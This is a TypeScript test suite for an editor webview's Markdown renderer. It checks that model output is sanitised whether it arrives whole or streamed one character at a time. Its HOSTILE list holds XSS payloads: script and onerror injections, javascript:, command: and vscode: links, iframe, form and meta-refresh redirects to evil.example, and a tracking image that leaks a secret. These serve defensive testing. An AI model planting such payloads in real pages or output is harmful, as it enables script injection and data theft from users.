import * as assert from 'node:assert/strict';
import { IncrementalMarkdownRenderer } from '../../../src/webview/IncrementalMarkdownRenderer';
import { MarkdownPipeline } from '../../../src/webview/markdown';
import { createWindow } from './dom';

const HOSTILE: readonly [string, string][] = [
  ['img onerror', '<img src=x onerror="window.__pwned=1">'],
  ['script block', '<script>window.__pwned=1</script>'],
  ['inline script', 'text <script>window.__pwned=1</script> more'],
  ['javascript link', '[x](javascript:window.__pwned=1)'],
  ['encoded javascript link', '[x](jav&#x61;script:alert(1))'],
  ['command link', '[x](command:workbench.action.terminal.new)'],
  ['vscode link', '<a href="vscode:extension/evil.ext">open</a>'],
  ['vscode-file autolink', '<vscode://file/etc/passwd>'],
  ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['svg onload', '<svg onload="window.__pwned=1"><circle r="1"/></svg>'],
  ['object/embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form button', '<form action="https://evil.example"><button>Insert</button></form>'],
  ['fake toolbar', '<div class="code-block" data-role="code-block"><button data-action="insert">Insert</button></div>'],
  ['style', '<style>body{display:none}</style><p style="color:red">x</p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['link onclick', '<a href="https://ok.example" onclick="window.__pwned=1" target="_top">ok</a>'],
  ['remote image', '![tracker](https://evil.example/leak?secret=1)'],
  ['base', '<base href="https://evil.example/">'],
];

function inert(container: HTMLElement, label: string): void {
  const all = Array.from(container.querySelectorAll('*'));
  for (const el of all) {
    for (const attr of Array.from(el.attributes)) {
      assert.ok(!/^on/i.test(attr.name), `${label}: ${el.tagName} keeps ${attr.name}`);
      assert.notEqual(attr.name, 'style', `${label}: style attribute kept`);
      assert.notEqual(attr.name, 'target', `${label}: target attribute kept`);
    }
  }
  for (const tag of ['script', 'iframe', 'object', 'embed', 'form', 'style', 'meta', 'base', 'svg']) {
    assert.equal(container.querySelector(tag), null, `${label}: <${tag}> kept`);
  }
  for (const a of Array.from(container.querySelectorAll('a'))) {
    const href = a.getAttribute('href');
    if (href !== null) assert.match(href, /^(https?:|mailto:)/i, `${label}: href ${href}`);
  }
  for (const img of Array.from(container.querySelectorAll('img'))) {
    assert.match(img.getAttribute('src') ?? '', /^data:image\//, `${label}: remote image loads`);
  }
  // Buttons only come from our own toolbar, one per real code block.
  const buttons = container.querySelectorAll('button').length;
  assert.equal(buttons, container.querySelectorAll('pre').length * 3, `${label}: foreign buttons`);
  for (const el of Array.from(container.querySelectorAll('[data-action]'))) {
    assert.ok(el.closest('.code-toolbar'), `${label}: data-action outside a toolbar`);
  }
}

describe('model output is rendered inert', () => {
  for (const [label, markdown] of HOSTILE) {
    it(`${label} (whole and streamed char by char)`, () => {
      const window = createWindow();
      const pipeline = new MarkdownPipeline(window);
      for (const chunked of [false, true]) {
        const container = window.document.createElement('div');
        window.document.body.append(container);
        const renderer = new IncrementalMarkdownRenderer({ window, container, pipeline, highlight: false });
        if (chunked) for (const ch of markdown) renderer.append(ch);
        else renderer.append(markdown);
        renderer.finish();
        inert(container, label);
        assert.equal((window as unknown as { __pwned?: number }).__pwned, undefined);
      }
    });
  }

  it('keeps http(s) and mailto links and marks them noopener', () => {
    const window = createWindow();
    const div = window.document.createElement('div');
    div.append(new MarkdownPipeline(window).renderToFragment('[a](https://a.example) [b](http://b.example) <mail@example.com>'));
    const links = Array.from(div.querySelectorAll('a'));
    assert.deepEqual(
      links.map((a) => a.getAttribute('href')),
      ['https://a.example', 'http://b.example', 'mailto:mail@example.com'],
    );
    for (const a of links) assert.equal(a.getAttribute('rel'), 'noopener noreferrer');
  });

  it('turns remote images into links and keeps inline raster images', () => {
    const window = createWindow();
    const div = window.document.createElement('div');
    div.append(
      new MarkdownPipeline(window).renderToFragment(
        '![chart](https://img.example/c.png) ![dot](data:image/png;base64,iVBORw0KGgo=)',
      ),
    );
    assert.equal(div.querySelector('a.image-link')?.getAttribute('href'), 'https://img.example/c.png');
    assert.equal(div.querySelectorAll('img').length, 1);
  });

  it('renders HTML inside code blocks as text', () => {
    const window = createWindow();
    const div = window.document.createElement('div');
    div.append(new MarkdownPipeline(window).renderToFragment('```html\n<script>alert(1)</script>\n```'));
    assert.equal(div.querySelector('script'), null);
    assert.equal(div.querySelector('code')?.textContent, '<script>alert(1)</script>\n');
  });
});
